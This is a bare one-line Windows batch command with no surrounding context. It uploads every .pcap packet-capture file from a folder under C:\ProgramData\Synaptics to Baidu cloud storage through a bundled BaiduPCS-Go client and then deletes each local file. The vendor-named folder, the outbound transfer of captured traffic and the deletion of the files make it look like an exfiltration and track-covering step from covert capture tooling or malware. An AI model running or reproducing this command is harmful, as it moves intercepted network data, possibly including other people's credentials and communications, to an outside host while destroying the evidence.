for %%f in (C:\ProgramData\Synaptics\u\*.pcap) do "C:\ProgramData\Synaptics\BaiduPCS-Go.exe" upload "%%f" /u15 && del "%%f"
